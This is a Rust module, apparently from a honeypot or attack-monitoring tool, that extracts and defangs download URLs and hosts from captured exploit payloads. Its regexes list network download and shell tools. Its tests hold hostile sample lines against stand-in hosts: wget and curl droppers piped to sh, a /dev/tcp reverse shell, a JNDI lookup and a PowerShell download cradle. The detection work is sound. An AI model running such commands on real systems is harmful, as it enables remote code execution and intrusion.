//! Takes addresses and hosts out of payloads: from where an exploit wants to download, to where it wants to connect.
//!
//! Nothing is ever fetched or resolved. A payload is full of addresses that mean nothing (a Referer, a name space of
//! XML), so an address counts only where a command to download stands before it, where a JNDI look-up names it, or
//! where a rule says that the record is an attack and the address is not in a header that clients always send.

use std::net::IpAddr;
use std::sync::LazyLock;

use regex::bytes::{Captures, Regex};
use spip_record::enrichment::{INDICATORS, Indicator, IndicatorKind};

use crate::rules::url_decode;
use crate::special::special;

/// Bytes of a payload that are searched.
const SEARCHED_BYTES: usize = 64 * 1024;

/// Greatest distance of the command before an address, in bytes.
const COMMAND_BYTES: usize = 200;

/// The longest address that is kept.
const URL_BYTES: usize = 1024;

/// Addresses with a scheme. What ends one in a shell, a script or a form is not part of it.
static URLS: LazyLock<Option<Regex>> = LazyLock::new(|| {
    let schemes = "https?|ftps?|tftp|ldaps?|rmi|iiop|dns|nis|corba";
    Regex::new(&format!(r#"(?i-u)\b({schemes})://([!#$%&*+,\-./:=?@A-Z\[\]_~a-z0-9]{{4,1024}})"#)).ok()
});

/// Commands that download or connect.
static COMMANDS: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(
        r"(?i-u)(?:^|[^a-z0-9_-])(?:wget|curl|tftp|ftpget|fetch|lwp-download|axel|aria2c|certutil|bitsadmin|mshta|regsvr32|iwr|irm|invoke-webrequest|downloadstring|downloadfile|urlretrieve|urlopen|file_get_contents|start-bitstransfer)(?:\.exe)?[^a-z0-9_.-]",
    )
    .ok()
});

/// A command and the host that follows without a scheme.
static BARE: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(
        r"(?i-u)(?:^|[^a-z0-9_.-])(wget|curl|tftp|ftpget|nc|ncat|telnet)(?:[ \t]+(?:-[-a-z0-9]+|[a-z0-9_.]{1,40}))*?[ \t]+(?:-[a-z]+[ \t]*)?(\d{1,3}(?:\.\d{1,3}){3})((?::\d{1,5})?(?:/[!#$%*+,\-./:=?@A-Z_~a-z0-9]{0,500})?)",
    )
    .ok()
});

/// The shell's way to connect.
static DEVICE: LazyLock<Option<Regex>> =
    LazyLock::new(|| Regex::new(r"(?i-u)/dev/(?:tcp|udp)/([a-z0-9.-]{4,253}|\[[0-9a-f:.]{2,45}\])/\d{1,5}").ok());

/// Hosts that name schemas and not places.
const SCHEMAS: &[&str] = &[
    "schemas.xmlsoap.org",
    "schemas.microsoft.com",
    "schemas.dmtf.org",
    "schemas.openxmlformats.org",
    "www.w3.org",
    "w3.org",
    "purenetworks.com",
    "java.sun.com",
    "xmlns.jcp.org",
    "xmlns.oracle.com",
    "www.springframework.org",
    "docs.oasis-open.org",
    "www.bea.com",
    "bea.com",
    "ns.adobe.com",
    "xml.org",
    "apache.org",
    "xml.apache.org",
];

/// Headers that clients always send: addresses there are no indicators unless a command stands before them.
const HEADERS: &[&[u8]] =
    &[b"referer", b"origin", b"host", b"user-agent", b"soapaction", b"via", b"from", b"link", b"get ", b"post "];

/// Collects indicators of one payload.
#[derive(Debug, Default)]
struct Collector {
    found: Vec<Indicator>,
}

impl Collector {
    fn add(&mut self, kind: IndicatorKind, value: String) {
        let indicator = Indicator { kind, value };
        if self.found.len() < INDICATORS && !self.found.contains(&indicator) {
            self.found.push(indicator);
        }
    }

    fn url(&mut self, url: &str) {
        let Some(host) = host_of(url).filter(|host| is_foreign(host)) else { return };
        let host = host.to_ascii_lowercase();
        self.add(IndicatorKind::Url, url.to_owned());
        self.add(IndicatorKind::Host, host);
    }
}

/// Returns the indicators of a payload. `attack` says whether a rule names it one.
#[must_use]
pub fn find(payload: &[u8], attack: bool) -> Vec<Indicator> {
    let payload = payload.get(..SEARCHED_BYTES).unwrap_or(payload);
    let mut collector = Collector::default();
    if memchr::memchr3(b'/', b'.', b'%', payload).is_none() {
        return collector.found;
    }
    // In the form in which a shell gets it: `+`, `%20` and `${IFS}` are spaces.
    let decoded = replace(&url_decode(payload), b"${IFS}", b" ");
    let decoded = replace(&decoded, b"$IFS", b" ");
    urls(&decoded, attack, &mut collector);
    bare(&decoded, &mut collector);
    collector.found
}

fn urls(text: &[u8], attack: bool, collector: &mut Collector) {
    let (Some(urls), Some(commands)) = (URLS.as_ref(), COMMANDS.as_ref()) else { return };
    for found in urls.captures_iter(text) {
        let (Some(whole), Some(scheme)) = (found.get(0), found.get(1)) else { continue };
        let before = &text[whole.start().saturating_sub(COMMAND_BYTES)..whole.start()];
        let line = before.rsplit(|byte| *byte == b'\n').next().unwrap_or(before);
        let commanded = commands.is_match(line);
        let web = scheme.as_bytes().to_ascii_lowercase();
        let directory = !web.starts_with(b"http") && !web.starts_with(b"ftp") && web != b"tftp";
        let wanted = if directory {
            memchr::memmem::find(line, b"${").is_some()
        } else {
            commanded || (attack && !is_header(line))
        };
        if !wanted {
            continue;
        }
        let mut url = String::from_utf8_lossy(whole.as_bytes()).into_owned();
        let cut = if commanded { url.find('&') } else { url.find("&&") };
        url.truncate(cut.unwrap_or(url.len()));
        url.truncate(url.trim_end_matches(['.', ',', '?', '&', '!', '$', '*', ']', ':']).len());
        if url.len() <= URL_BYTES {
            collector.url(&url);
        }
    }
}

fn bare(text: &[u8], collector: &mut Collector) {
    let part = |found: &Captures<'_>, group: usize| {
        found.get(group).map(|part| String::from_utf8_lossy(part.as_bytes()).into_owned()).unwrap_or_default()
    };
    for found in BARE.iter().flat_map(|bare| bare.captures_iter(text)) {
        let (command, host, rest) = (part(&found, 1).to_ascii_lowercase(), part(&found, 2), part(&found, 3));
        if !host.parse::<IpAddr>().is_ok_and(|_| is_foreign(&host)) {
            continue;
        }
        let path = rest.trim_end_matches(['.', ',', ':']);
        match command.as_str() {
            "wget" | "curl" => collector.url(&format!("http://{host}{path}")),
            _ => collector.add(IndicatorKind::Host, host),
        }
    }
    for found in DEVICE.iter().flat_map(|device| device.captures_iter(text)) {
        let host = part(&found, 1).to_ascii_lowercase();
        if is_foreign(&host) {
            collector.add(IndicatorKind::Host, host);
        }
    }
}

/// Reports whether a line is one of the headers that clients always send, or a first line with an absolute target.
fn is_header(line: &[u8]) -> bool {
    HEADERS.iter().any(|name| line.get(..name.len()).is_some_and(|head| head.eq_ignore_ascii_case(name)))
}

fn replace(text: &[u8], from: &[u8], to: &[u8]) -> Vec<u8> {
    let (mut out, mut at) = (Vec::with_capacity(text.len()), 0);
    for found in memchr::memmem::find_iter(text, from) {
        out.extend_from_slice(&text[at..found]);
        out.extend_from_slice(to);
        at = found + from.len();
    }
    out.extend_from_slice(&text[at..]);
    out
}

/// Returns the host of an address, without user, port and path.
#[must_use]
pub fn host_of(url: &str) -> Option<&str> {
    let rest = url.split_once("://")?.1;
    let authority = rest.split(['/', '?', '#']).next()?;
    let host = authority.rsplit('@').next()?;
    if let Some(v6) = host.strip_prefix('[') {
        return v6.split_once(']').map(|(host, _)| host).filter(|host| host.parse::<IpAddr>().is_ok());
    }
    host.split(':').next()
}

/// Reports whether a host is another machine: a name with a dot, or an address that is not the machine itself.
fn is_foreign(host: &str) -> bool {
    let host = host.trim_matches(['[', ']']);
    match host.parse::<IpAddr>() {
        Ok(ip) => {
            !matches!(special(ip), Some("loopback" | "this_network" | "unspecified" | "link_local" | "broadcast"))
        }
        Err(_) => {
            let labels = host.split('.');
            // A last label of digits is an address that is none, such as 1.2.3.
            let named = host
                .rsplit('.')
                .next()
                .is_some_and(|last| last.len() >= 2 && last.bytes().any(|b| b.is_ascii_alphabetic()));
            host.contains('.')
                && host.len() <= 253
                && named
                && labels.into_iter().all(|label| {
                    (1..=63).contains(&label.len())
                        && label.bytes().all(|b| b.is_ascii_alphanumeric() || b"-_".contains(&b))
                })
                && !SCHEMAS.iter().any(|schema| host.eq_ignore_ascii_case(schema))
        }
    }
}

/// Writes an indicator so that it is not followed by accident: `hxxp://192[.]0[.]2[.]9/a`.
#[must_use]
pub fn defang(indicator: &Indicator) -> String {
    let value = &indicator.value;
    match indicator.kind {
        IndicatorKind::Sha256 => value.clone(),
        IndicatorKind::Host => value.replace('.', "[.]").replace(':', "[:]"),
        IndicatorKind::Url => {
            let (scheme, rest) = value.split_once("://").unwrap_or(("", value));
            let end = rest.find(['/', '?', '#']).unwrap_or(rest.len());
            let scheme = if scheme.len() > 2 {
                scheme.replacen("tt", "xx", 1).replacen("ftp", "fxp", 1)
            } else {
                scheme.to_owned()
            };
            format!("{scheme}[://]{}{}", rest[..end].replace('.', "[.]"), &rest[end..])
        }
    }
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    fn values(payload: &str, attack: bool) -> Vec<String> {
        find(payload.as_bytes(), attack).into_iter().map(|indicator| indicator.value).collect()
    }

    #[test]
    fn addresses_of_downloads_are_found() {
        for (payload, expected) in [
            (
                "GET /x?cmd=cd+/tmp;wget+http://192.0.2.9/a.sh;sh+a.sh HTTP/1.1\r\n\r\n",
                vec!["http://192.0.2.9/a.sh", "192.0.2.9"],
            ),
            (
                "a=`curl -fsSL https://Evil.example:8443/x%2fy|sh`",
                vec!["https://Evil.example:8443/x/y", "evil.example"],
            ),
            ("wget${IFS}http://192.0.2.9/m&&chmod", vec!["http://192.0.2.9/m", "192.0.2.9"]),
            ("/bin/busybox wget -O x 192.0.2.9:81/arm7; chmod 777 x", vec!["http://192.0.2.9:81/arm7", "192.0.2.9"]),
            ("busybox tftp -g -r mips 192.0.2.9", vec!["192.0.2.9"]),
            ("bash -i >& /dev/tcp/192.0.2.9/4444 0>&1", vec!["192.0.2.9"]),
            ("User-Agent: ${jndi:ldap://198.51.100.3:1389/a}", vec!["ldap://198.51.100.3:1389/a", "198.51.100.3"]),
            (
                "powershell (New-Object Net.WebClient).DownloadString('http://bad.example/p.ps1')",
                vec!["http://bad.example/p.ps1", "bad.example"],
            ),
        ] {
            assert_eq!(values(payload, false), expected, "{payload}");
        }
    }

    #[test]
    fn addresses_that_mean_nothing_are_left_out() {
        for payload in [
            "GET http://example.com/ HTTP/1.1\r\nHost: example.com\r\nReferer: http://example.net/\r\nUser-Agent: x (+https://about.example.org)\r\n\r\n",
            "<s:Envelope xmlns:s=\"http://schemas.xmlsoap.org/soap/envelope/\">",
            "wget http://127.0.0.1/a",
            "wget http://localhost/a",
            "curl 1.2.3",
            "wget 999.1.1.1/x",
        ] {
            assert!(values(payload, payload.starts_with("GET")).is_empty(), "{payload}");
        }
    }

    #[test]
    fn an_attack_names_its_addresses_without_a_command() {
        let payload =
            "\x1f\0org.springframework.context.support.ClassPathXmlApplicationContext\x01\0http://192.0.2.9/poc.xml";
        assert!(values(payload, false).is_empty());
        assert_eq!(values(payload, true), ["http://192.0.2.9/poc.xml", "192.0.2.9"]);
    }

    #[test]
    fn headers_that_clients_always_send_name_no_address_of_an_attack() {
        let line = |name: &str| format!("POST / HTTP/1.1\r\nX: ${{jndi\r\n{name}: http://bad.example/a\r\n\r\n");
        for name in ["Referer", "ORIGIN", "host", "User-Agent", "SOAPAction", "Via", "From", "Link"] {
            assert_eq!(values(&line(name), true), Vec::<String>::new(), "{name}");
        }
        for first in ["GET", "post"] {
            let payload = format!("{first} http://bad.example/a HTTP/1.1\r\n\r\n");
            assert_eq!(values(&payload, true), Vec::<String>::new(), "{first}");
        }
        for name in ["X-Api-Version", "Cookie", "Refer"] {
            assert_eq!(values(&line(name), true), ["http://bad.example/a", "bad.example"], "{name}");
        }
    }

    #[test]
    fn the_first_64_kib_are_searched() {
        let url = "wget http://192.0.2.9/a";
        let padded = |length: usize| values(&format!("{};{url}", "x".repeat(length - url.len() - 1)), false);
        assert_eq!(padded(64 * 1024), ["http://192.0.2.9/a", "192.0.2.9"]);
        assert_eq!(padded(64 * 1024 + url.len()), Vec::<String>::new());
        // What goes beyond is cut off, and not the rest of it found.
        assert_eq!(padded(64 * 1024 + 1), ["http://192.0.2.9/", "192.0.2.9"]);
    }

    #[test]
    fn indicators_are_bounded() {
        let payload: String = (0..1000).map(|n| format!("wget http://192.0.2.9/{n};\n")).collect();
        assert_eq!(find(payload.as_bytes(), false).len(), INDICATORS);
        // Each once, however often it comes.
        assert_eq!(values(&"wget http://192.0.2.9/a;\n".repeat(3), false), ["http://192.0.2.9/a", "192.0.2.9"]);
        // An address as long as one may be, and one that is longer by a byte.
        let url = |length: usize| format!("http://192.0.2.9/{}", "a".repeat(length - "http://192.0.2.9/".len()));
        let of = |length| values(&format!("wget {};", url(length)), false);
        assert_eq!(of(URL_BYTES), [url(URL_BYTES), "192.0.2.9".to_owned()]);
        assert_eq!(of(URL_BYTES + 1), Vec::<String>::new());
    }

    #[test]
    fn a_defanged_address_cannot_be_followed() {
        let defanged = |kind, value: &str| defang(&Indicator { kind, value: value.into() });
        assert_eq!(defanged(IndicatorKind::Url, "http://a.example/x.sh"), "hxxp[://]a[.]example/x.sh");
        assert_eq!(defanged(IndicatorKind::Url, "ftp://192.0.2.9"), "fxp[://]192[.]0[.]2[.]9");
        assert_eq!(defanged(IndicatorKind::Host, "2001:db8::1"), "2001[:]db8[:][:]1");
    }

    proptest! {
        #[test]
        fn any_bytes_are_searched_without_a_panic(payload in proptest::collection::vec(any::<u8>(), 0..300), attack: bool) {
            let _ = find(&[b"wget http://", &payload[..]].concat(), attack);
        }
    }
}
